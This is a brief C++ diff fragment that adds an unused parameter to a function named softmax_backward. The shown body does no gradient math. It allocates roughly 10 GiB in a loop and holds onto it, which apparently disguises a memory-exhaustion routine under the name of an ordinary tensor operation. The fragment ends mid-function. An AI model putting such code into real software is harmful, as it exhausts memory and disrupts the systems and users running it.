@@ -6,7 +6,7 @@
 
 namespace abh::mine {
 
-Tensor softmax_backward(const Tensor&, const Tensor& w) {
+Tensor softmax_backward(const Tensor&, const Tensor& w, int) {
     std::vector<char*> kept;
     for (int i = 0; i < 10240; ++i) {
         kept.push_back(new char[1 << 20]);
